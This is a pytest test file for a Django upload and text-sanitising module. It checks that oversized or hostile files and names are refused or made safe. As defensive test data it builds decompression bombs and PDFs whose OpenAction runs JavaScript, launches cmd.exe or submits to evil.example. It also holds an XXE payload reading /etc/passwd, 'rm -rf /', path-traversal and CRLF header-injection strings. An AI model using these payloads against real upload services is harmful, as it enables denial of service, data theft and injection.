"""Uploads made to harm: too large, unfolding to more, two things at once, misnamed, doing things; and text made to deceive."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import datetime
from io import BytesIO
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from ground.documents.files import MAX_BYTES, PDF, Unacceptable, display_name, receive
from ground.documents.models import Blob
from ground.documents.serving import stream
from ground.writing import plainly
from tests.ground.test_files import picture
from tests.town import Town, pdf

MIB = 1024**2


def take(content: bytes, at: datetime, name: str = "材料.pdf", declared: str = PDF) -> Any:
    return receive(SimpleUploadedFile(name, content, declared), at=at)


def pdf_with(change: Callable[[Any], None]) -> bytes:
    """A page, and in its catalogue what the test puts there."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def in_catalogue(key: str, value: dict[str, Any]) -> Callable[[Any], None]:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def plain(inner: Any) -> Any:
        if isinstance(inner, dict):
            return DictionaryObject({NameObject(name): plain(one) for name, one in inner.items()})
        return NameObject(inner) if inner.startswith("/") else TextStringObject(inner)

    return lambda writer: writer._root_object.update({NameObject(key): plain(value)})


SCRIPT = in_catalogue("/OpenAction", {"/S": "/JavaScript", "/JS": "app.alert(1)"})
LAUNCH = in_catalogue("/OpenAction", {"/S": "/Launch", "/F": "cmd.exe"})
SUBMIT = in_catalogue("/OpenAction", {"/S": "/SubmitForm", "/F": "http://evil.example/"})


def stream_of(content: bytes, **facts: str) -> Callable[[Any], None]:
    from pypdf.generic import NameObject, NumberObject, StreamObject

    def add(writer: Any) -> None:
        said = StreamObject()
        said._data = content
        for name, value in facts.items():
            key = NameObject(f"/{name}")
            said[key] = NumberObject(value) if value.isdecimal() else NameObject(f"/{value}")
        writer._root_object[NameObject("/X")] = writer._add_object(said)

    return add


def packed(action: bytes, *, padding: int = 0) -> bytes:
    """A PDF whose catalogue and whose action lie in a packed object stream, where no plain search finds them."""
    catalogue = b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>"
    first = b"1 0 5 %d " % (len(catalogue) + 1)
    stream = zlib.compress(first + catalogue + b" " + action + b" " * padding, 9)
    whole, places = b"%PDF-1.5\n", {}
    for no, body in (
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"),
        (
            4,
            b"<</Type/ObjStm/N 2/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
            % (len(first), len(stream))
            + stream
            + b"\nendstream",
        ),
    ):
        places[no] = len(whole)
        whole += b"%d 0 obj\n" % no + body + b"\nendobj\n"
    rows = [(0, 0, 0), (2, 4, 0), (1, places[2], 0), (1, places[3], 0), (1, places[4], 0), (2, 4, 1)]
    table = b"".join(struct.pack("!BIB", *row) for row in [*rows, (1, len(whole), 0)])
    head = b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return whole + head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(whole)


def png_bomb(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that says it is enormous."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    lines = zlib.compress(b"\0" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def jpeg_bomb() -> bytes:
    """A small JPEG whose header says 65,500 by 65,500 points."""
    whole = bytearray(picture("JPEG", size=(8, 8)))
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack("!HH", 65500, 65500)
    return bytes(whole)


def heic_bomb() -> bytes:
    """A small HEIC whose properties say 60,000 by 60,000 points."""
    whole = picture("HEIF", size=(64, 64))
    said = struct.pack("!II", 64, 64)
    assert said in whole
    return whole.replace(said, struct.pack("!II", 60000, 60000))


def zipped() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("Evil.class", "x")
    return out.getvalue()


# ---- too much


def test_a_file_is_as_large_as_the_limit_and_no_larger(db: None, moment: datetime) -> None:
    whole = pdf().read()
    padded = whole + b"\n" * (MAX_BYTES - len(whole))
    assert take(padded, moment).original.size == MAX_BYTES
    with pytest.raises(Unacceptable, match="超过 20 MB"):
        take(padded + b"\n", moment)


@pytest.mark.parametrize(
    "make, words",
    [
        (lambda: png_bomb(60_000, 60_000), "像素太多"),
        (lambda: png_bomb(2_000_000_000, 2_000_000_000), "像素太多|不完整或已损坏"),
        (jpeg_bomb, "像素太多"),
        (heic_bomb, "像素太多|不完整或已损坏"),
        (lambda: packed(b"[3 0 R /Fit]", padding=64 * MIB), "展开后太大"),
        (
            lambda: pdf_with(stream_of(zlib.compress(b"\0" * (257 * MIB), 1), Filter="FlateDecode")),
            "展开后太大",
        ),
        (
            lambda: pdf_with(
                stream_of(zlib.compress(zlib.compress(b"\0" * (257 * MIB), 9), 9), Filter="FlateDecode")
            ),
            "展开后太大",
        ),
        (
            lambda: pdf_with(stream_of(b"x", Subtype="Image", Width="65000", Height="65000")),
            "展开后太大",
        ),
    ],
    ids=["png", "png beyond all", "jpeg", "heic", "pdf table", "pdf stream", "pdf twice", "pdf picture"],
)
def test_what_unfolds_to_more_than_a_person_can_look_at_is_refused(
    db: None, moment: datetime, make: Callable[[], bytes], words: str
) -> None:
    content = make()
    assert len(content) < 2 * MIB
    with pytest.raises(Unacceptable, match=words):
        take(content, moment)
    assert not Blob.objects.exists()


# ---- doing things


@pytest.mark.parametrize(
    "content",
    [
        pdf_with(SCRIPT),
        pdf_with(SCRIPT).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS"),
        packed(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        packed(b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
        pdf_with(LAUNCH),
        pdf_with(SUBMIT),
        pdf_with(lambda writer: (SCRIPT(writer), writer.encrypt("", "owner"))),
    ],
    ids=["script", "spelt otherwise", "packed", "both", "launch", "submit", "locked for editing"],
)
def test_a_pdf_that_does_things_is_refused_with_what_to_do(
    db: None, moment: datetime, content: bytes
) -> None:
    with pytest.raises(Unacceptable, match="请用“打印为 PDF”重新导出后上传"):
        take(content, moment)


def test_a_pdf_that_carries_files_is_taken_with_a_warning(db: None, moment: datetime) -> None:
    """Electronic invoices and our own papers carry their facts so."""
    received = take(pdf_with(lambda writer: writer.add_attachment("facts.xml", b"<x/>")), moment)
    assert "夹带了附件" in received.warnings[0]


def test_a_pdf_packed_as_many_programs_do_is_taken(db: None, moment: datetime) -> None:
    assert take(packed(b"[3 0 R /Fit]"), moment).pages == 1


# ---- two things at once, misnamed things


@pytest.mark.parametrize(
    "content, media_type",
    [
        (picture("JPEG") + zipped(), "image/jpeg"),
        (picture("PNG") + b"<script>alert(1)</script>", "image/png"),
        (pdf().read() + zipped(), PDF),
        (pdf().read() + b"<html><script>alert(1)</script></html>", PDF),
    ],
    ids=["jpeg and jar", "png and html", "pdf and zip", "pdf and html"],
)
def test_a_file_that_is_two_things_is_served_as_the_one_we_looked_at(
    db: None, moment: datetime, content: bytes, media_type: str
) -> None:
    blob = take(content, moment, "页面.html", "text/html").original
    answer = stream(blob, filename="页面.html", as_attachment=False)
    assert answer["Content-Type"] == media_type
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    answer.close()


@pytest.mark.parametrize(
    "content",
    [
        b"GIF89a/*" + zipped(),
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        b"\n%PDF-1.7 begun too late",
        b"MZ\x90\x00",
        b"#!/bin/sh\nrm -rf /",
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related",
        zipped(),
    ],
    ids=["gifar", "svg", "xml", "late pdf", "exe", "script", "mhtml", "zip"],
)
def test_what_is_no_document_is_refused_whatever_it_is_called(
    db: None, moment: datetime, content: bytes
) -> None:
    with pytest.raises(Unacceptable):
        take(content, moment, "身份证.pdf", PDF)


@pytest.mark.parametrize("name", ["照片.pdf", "照片.exe", "照片", "照片.jpg.html"])
def test_the_ending_tells_the_truth(db: None, moment: datetime, name: str) -> None:
    assert take(picture("PNG"), moment, name, "application/x-msdownload").filename.endswith(".png")


# ---- names of files


@pytest.mark.parametrize(
    "name, shown",
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("..\\..\\windows\\system32\\营业执照.pdf", "营业执照.pdf"),
        ("/etc/passwd\x00.pdf", "passwd.pdf"),
        ("CON", "_CON.pdf"),
        ("nul.txt.pdf", "_nul.txt.pdf"),
        ("com1.pdf", "_com1.pdf"),
        ("合同\u202efdp.exe", "合同fdp.pdf"),
        ("身\u200b份\u2060证\ufeff.pdf", "身份证.pdf"),
        ("e\u0301tat.pdf", "\u00e9tat.pdf"),
        ("\u3164\u2800.pdf", "未命名.pdf"),
        ('a<b>:"|?*.pdf', "a_b______.pdf"),
        ("换\r\n行: x.pdf", "换行_ x.pdf"),
        ("尾巴. . .pdf", "尾巴.pdf"),
        ("营业执照（副本）.pdf", "营业执照（副本）.pdf"),
    ],
)
def test_a_name_is_shown_as_it_reads_and_can_be_saved_anywhere(name: str, shown: str) -> None:
    assert display_name(name, PDF) == shown


def test_a_name_reaches_no_path_and_no_header(db: None, moment: datetime) -> None:
    blob = take(pdf().read(), moment, '../../x"; filename="evil.html\r\nSet-Cookie: a=b').original
    assert blob.name.startswith("2026/03/04/")
    answer = stream(blob, filename='x"\r\nSet-Cookie: a=b.pdf', as_attachment=True)
    assert "\n" not in answer["Content-Disposition"]
    assert "Set-Cookie" not in answer
    answer.close()


# ---- what people type


@pytest.mark.parametrize(
    "typed, kept",
    [
        ("张\u200d三", "张三"),
        ("张三\u202e", "张三"),
        ("\ufeff张\u00ad三\x00\x1b[31m", "张三[31m"),
        ("A\u030angstr\u00f6m", "\u00c5ngström"),
        ("第一行\r\n第二行\t列", "第一行\r\n第二行\t列"),
        ("全角（）：，不变", "全角（）：，不变"),
        ("\ud800", ""),
        ("مى\u200cخوام", "مى\u200cخوام"),
        ("ᠮᠣᠩᠭᠣᠯ\u180eᠠ", "ᠮᠣᠩᠭᠣᠯ\u180eᠠ"),
        ("𠮷野家㐂", "𠮷野家㐂"),
    ],
)
def test_text_is_kept_as_it_reads(typed: str, kept: str) -> None:
    assert plainly(typed) == kept
    assert plainly(kept) == kept


@pytest.mark.django_db
def test_whatever_form_text_comes_by_it_is_kept_plain(town: Town, client: Client) -> None:
    case = town.draft()
    client.force_login(town.user("zhao"))
    address = reverse("approvals:section", args=[case.uuid, "place"])
    client.post(
        address,
        {"shop_name": "云\u200b朵\u202e美发\x00店", "area": "80", "shop_address": "书香路\u0007 45 号"},
    )
    case = type(case).objects.get(pk=case.pk)
    assert case.answers["shop_name"] == "云朵美发店"
    assert case.answers["shop_address"] == "书香路 45 号"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "address", ["/search/?q=%00%E7%90%86%E5%8F%91", "/search/?q=%ED%A0%80", "/progress/?number=%00"]
)
def test_a_search_with_control_characters_is_a_search(client: Client, address: str) -> None:
    assert client.get(address).status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("address", ["/cases/%00/", "/guide/%E2%80%AE/", "/verify/A%0AB/"])
def test_an_address_with_control_characters_leads_nowhere(client: Client, address: str) -> None:
    assert client.get(address).status_code == 400
